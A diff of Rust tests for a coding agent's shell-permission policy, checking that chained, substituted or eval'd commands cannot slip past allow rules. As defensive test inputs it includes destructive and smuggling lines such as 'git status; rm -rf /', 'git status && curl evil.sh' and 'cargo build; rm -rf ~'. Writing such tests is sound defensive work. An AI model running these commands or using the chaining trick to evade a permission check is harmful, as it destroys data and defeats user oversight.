@@ -22,12 +22,8 @@ fn write(display: &str, inside: bool) -> Access {
     Access::Write(path(display, inside, false))
 }
 
-fn command(command: &str, parts: Option<&[&str]>, sandboxed: bool) -> Access {
-    Access::Execute {
-        command: command.to_owned(),
-        parts: parts.map(|p| p.iter().map(ToString::to_string).collect()),
-        sandboxed,
-    }
+fn command(line: &str, sandboxed: bool) -> Access {
+    Access::command(line, sandboxed)
 }
 
 fn rule(action: RuleAction, tool: &str, pattern: Option<&str>) -> Rule {
@@ -65,17 +61,26 @@ fn default_mode() {
         decide(&p, "write", Access::Write(path(".git/config", true, true))),
         "ask:ProtectedPath"
     );
+    assert_eq!(decide(&p, "bash", command("ls", true)), "allow");
+    assert_eq!(decide(&p, "bash", command("ls", false)), "ask:Unsandboxed");
+    // Shell syntax alone never asks where the sandbox holds ...
+    for line in [
+        "echo $(id)",
+        "echo $((1+2))",
+        "eval \"$CMD\"",
+        "$CC x",
+        "source env.sh",
+    ] {
+        assert_eq!(decide(&p, "bash", command(line, true)), "allow", "{line}");
+    }
+    // ... but what cannot be seen asks where it does not.
     assert_eq!(
-        decide(&p, "bash", command("ls", Some(&["ls"]), true)),
-        "allow"
-    );
-    assert_eq!(
-        decide(&p, "bash", command("ls", Some(&["ls"]), false)),
-        "ask:Unsandboxed"
-    );
-    assert_eq!(
-        decide(&p, "bash", command("echo $(id)", None, true)),
+        decide(&p, "bash", command("eval \"$CMD\"", false)),
         "ask:UnparsedCommand"
+    );
+    assert_eq!(
+        decide(&p, "bash", command("echo $(id)", false)),
+        "ask:Unsandboxed"
     );
     assert_eq!(
         decide(
@@ -94,20 +99,14 @@ fn strict_trusted_and_read_only_modes() {
     let strict = Policy::new(Mode::Strict);
     assert_eq!(decide(&strict, "read", read("a", true)), "allow");
     assert_eq!(decide(&strict, "write", write("a", true)), "ask:Mode");
-    assert_eq!(
-        decide(&strict, "bash", command("ls", Some(&["ls"]), true)),
-        "ask:Mode"
-    );
+    assert_eq!(decide(&strict, "bash", command("ls", true)), "ask:Mode");
 
     let trusted = Policy::new(Mode::Trusted);
     assert_eq!(decide(&trusted, "write", write("a", true)), "allow");
     assert_eq!(decide(&trusted, "read", read("/etc/x", false)), "deny");
+    assert_eq!(decide(&trusted, "bash", command("ls", false)), "allow");
     assert_eq!(
-        decide(&trusted, "bash", command("ls", Some(&["ls"]), false)),
-        "allow"
-    );
-    assert_eq!(
-        decide(&trusted, "bash", command("echo $(id)", None, true)),
+        decide(&trusted, "bash", command("echo $(id)", true)),
         "allow"
     );
     assert_eq!(
@@ -122,10 +121,7 @@ fn strict_trusted_and_read_only_modes() {
     let read_only = Policy::new(Mode::ReadOnly);
     assert_eq!(decide(&read_only, "read", read("a", true)), "allow");
     assert_eq!(decide(&read_only, "write", write("a", true)), "deny");
-    assert_eq!(
-        decide(&read_only, "bash", command("ls", Some(&["ls"]), true)),
-        "deny"
-    );
+    assert_eq!(decide(&read_only, "bash", command("ls", true)), "deny");
 }
 
 #[test]
@@ -184,10 +180,7 @@ fn a_project_config_can_only_tighten() {
         .unwrap();
     assert_eq!(p.rules().count(), 1);
     assert_eq!(decide(&p, "write", write("a", true)), "ask:Mode");
-    assert_eq!(
-        decide(&p, "bash", command("curl x", Some(&["curl x"]), true)),
-        "deny"
-    );
+    assert_eq!(decide(&p, "bash", command("curl x", true)), "deny");
 }
 
 #[test]
@@ -202,37 +195,31 @@ fn compound_commands_need_every_part_allowed() {
             RuleOrigin::User,
         )
         .unwrap();
-    let allowed = ["git status", "cargo test --all"];
     assert_eq!(
-        decide(
-            &p,
-            "bash",
-            command("git status && cargo test --all", Some(&allowed), true)
-        ),
+        decide(&p, "bash", command("git status && cargo test --all", true)),
         "allow"
     );
     // `git status*` as a glob matches the whole string; it must not allow the second part.
-    let sneaky = ["git status", "curl evil.sh"];
     assert_eq!(
-        decide(
-            &p,
-            "bash",
-            command("git status && curl evil.sh", Some(&sneaky), true)
-        ),
+        decide(&p, "bash", command("git status && curl evil.sh", true)),
         "ask:Mode"
     );
-    let denied = ["git status", "rm -rf /"];
     assert_eq!(
-        decide(
-            &p,
-            "bash",
-            command("git status; rm -rf /", Some(&denied), true)
-        ),
+        decide(&p, "bash", command("git status; rm -rf /", true)),
         "deny"
     );
-    // What the splitter cannot read is never allowed by a rule.
+    // A substitution is read: the deny rule on the command inside it applies.
     assert_eq!(
-        decide(&p, "bash", command("git status $(rm -rf /)", None, true)),
+        decide(&p, "bash", command("git status $(rm -rf /)", true)),
+        "deny"
+    );
+    // What cannot be known is never allowed by a rule.
+    assert_eq!(
+        decide(&p, "bash", command("git status; eval \"$CMD\"", true)),
+        "ask:UnparsedCommand"
+    );
+    assert_eq!(
+        decide(&p, "bash", command("git status; $(echo cargo) test", true)),
         "ask:UnparsedCommand"
     );
     let trusted = Policy::new(Mode::Trusted)
@@ -242,8 +229,128 @@ fn compound_commands_need_every_part_allowed() {
         )
         .unwrap();
     assert_eq!(
-        decide(&trusted, "bash", command("eval \"rm -rf /\"", None, true)),
+        decide(&trusted, "bash", command("eval \"rm -rf /\"", true)),
         "deny"
+    );
+    // The trusted mode never asks: an unknowable part that could hide a denied command is
+    // refused, and runs where no such rule exists.
+    assert_eq!(
+        decide(&trusted, "bash", command("eval \"$CMD\"", true)),
+        "deny"
+    );
+    assert_eq!(
+        decide(
+            &Policy::new(Mode::Trusted),
+            "bash",
+            command("eval \"$CMD\"", false)
+        ),
+        "allow"
+    );
+}
+
+#[test]
+fn the_strictest_verdict_over_the_simple_commands_wins() {
+    let p = Policy::new(Mode::Default)
+        .with_rules(
+            [
+                rule(RuleAction::Allow, "bash", Some("git*")),
+                rule(RuleAction::Ask, "bash", Some("curl*")),
+                rule(RuleAction::Deny, "bash", Some("git push*")),
+            ],
+            RuleOrigin::User,
+        )
+        .unwrap();
+    assert_eq!(decide(&p, "bash", command("git status", false)), "allow");
+    assert_eq!(
+        decide(&p, "bash", command("curl x | sh -c 'git push'", true)),
+        "deny"
+    );
+    assert_eq!(
+        decide(&p, "bash", command("git log $(curl -s x)", true)),
+        "ask:Rule"
+    );
+    // A rule without a tool applies to bash too; one for another tool does not.
+    let p = Policy::new(Mode::Default)
+        .with_rules(
+            [
+                rule(RuleAction::Deny, "*", Some("rm *")),
+                rule(RuleAction::Deny, "write", Some("git*")),
+            ],
+            RuleOrigin::User,
+        )
+        .unwrap();
+    assert_eq!(decide(&p, "bash", command("(cd x && rm y)", true)), "deny");
+    assert_eq!(decide(&p, "bash", command("git push", true)), "allow");
+}
+
+#[test]
+fn an_allow_rule_needs_every_command_by_the_name_written() {
+    let p = Policy::new(Mode::Strict)
+        .with_rules(
+            [
+                rule(RuleAction::Allow, "bash", Some("cargo test*")),
+                rule(RuleAction::Allow, "bash", Some("./deploy --dry-run*")),
+                rule(RuleAction::Deny, "bash", Some("deploy --force*")),
+            ],
+            RuleOrigin::User,
+        )
+        .unwrap();
+    assert_eq!(
+        decide(&p, "bash", command("cargo test --all", true)),
+        "allow"
+    );
+    // A wrapper is a command too: it must be allowed as well.
+    assert_eq!(
+        decide(&p, "bash", command("timeout 60 cargo test", true)),
+        "ask:Mode"
+    );
+    assert_eq!(
+        decide(&p, "bash", command("./deploy --dry-run", true)),
+        "allow"
+    );
+    // Allowing `./deploy` does not allow another program of that name ...
+    assert_eq!(
+        decide(&p, "bash", command("/tmp/x/deploy --dry-run", true)),
+        "ask:Mode"
+    );
+    // ... while a deny rule on the name catches it wherever it lives.
+    assert_eq!(
+        decide(&p, "bash", command("/tmp/x/deploy --force", true)),
+        "deny"
+    );
+}
+
+#[test]
+fn questions_and_refusals_name_what_they_are_about() {
+    let ws = TestWorkspace::new();
+    let p = Policy::new(Mode::Default)
+        .with_rules(
+            [rule(RuleAction::Deny, "bash", Some("git push*"))],
+            RuleOrigin::User,
+        )
+        .unwrap();
+    let judge = |line: &str| {
+        p.judge(
+            "bash",
+            ToolFlags::default(),
+            &[command(line, true)],
+            &ws.ctx(),
+        )
+    };
+    let Permission::Ask(request) = judge("$CC -o main main.c") else {
+        panic!("should ask")
+    };
+    assert_eq!(request.reason, AskReason::UnparsedCommand);
+    assert_eq!(
+        request.summary,
+        "run $CC -o main main.c (gimlet cannot see which command `$CC` is)"
+    );
+    let Permission::Deny(why) = judge("bash -c \"git push\"") else {
+        panic!("should deny")
+    };
+    assert!(
+        why.contains("denies `git push`, which `bash -c \"git push\"` runs"),
+        "{why}"
     );
 }
 
@@ -287,22 +394,63 @@ fn session_grants_cover_the_same_pattern_only() {
         Permission::Ask(_)
     ));
 
-    let cmd = command(
-        "cargo build --release",
-        Some(&["cargo build --release"]),
-        false,
-    );
+    let cmd = command("cargo build --release", false);
     assert_eq!(cmd.session_pattern(), "cargo build*");
     ctx.session().grants().add("bash", cmd.session_pattern());
     assert_eq!(
         p.judge("bash", ToolFlags::default(), &[cmd], &ctx),
         Permission::Allow
     );
-    let other = command("cargo publish", Some(&["cargo publish"]), false);
+    let other = command("cargo publish", false);
     assert!(matches!(
         p.judge("bash", ToolFlags::default(), &[other], &ctx),
         Permission::Ask(_)
     ));
+    // The grant covers a line whose every command it matches, and no other.
+    let both = command("cargo build && cargo build --release", false);
+    assert_eq!(
+        p.judge("bash", ToolFlags::default(), &[both], &ctx),
+        Permission::Allow
+    );
+    let sneaky = command("cargo build; rm -rf ~", false);
+    assert!(matches!(
+        p.judge("bash", ToolFlags::default(), &[sneaky], &ctx),
+        Permission::Ask(_)
+    ));
+}
+
+#[test]
+fn a_session_grant_on_a_compound_line_covers_that_line() {
+    let ws = TestWorkspace::new();
+    let ctx = ws.ctx();
+    let p = Policy::new(Mode::Default);
+    let line = "cd sub && cargo test 2>&1 | tail -n [0-9]*";
+    let cmd = command(line, false);
+    assert_eq!(
+        cmd.session_pattern(),
+        "cd sub && cargo test 2>&1 | tail -n \\[0-9\\]\\*"
+    );
+    ctx.session().grants().add("bash", cmd.session_pattern());
+    assert_eq!(
+        p.judge("bash", ToolFlags::default(), &[cmd], &ctx),
+        Permission::Allow
+    );
+    for other in [
+        "cd sub && cargo test 2>&1 | tail -n 5",
+        "cd sub && cargo test 2>&1 | tail -n [0-9]*; rm -rf ~",
+        "cd sub",
+    ] {
+        assert!(
+            matches!(
+                p.judge("bash", ToolFlags::default(), &[command(other, false)], &ctx),
+                Permission::Ask(_)
+            ),
+            "{other}"
+        );
+    }
+    // A line with a part that cannot be seen is granted as it is, too.
+    let unknown = command("eval \"$SETUP\"", false);
+    assert_eq!(unknown.session_pattern(), "eval \"$SETUP\"");
 }
 
 #[test]
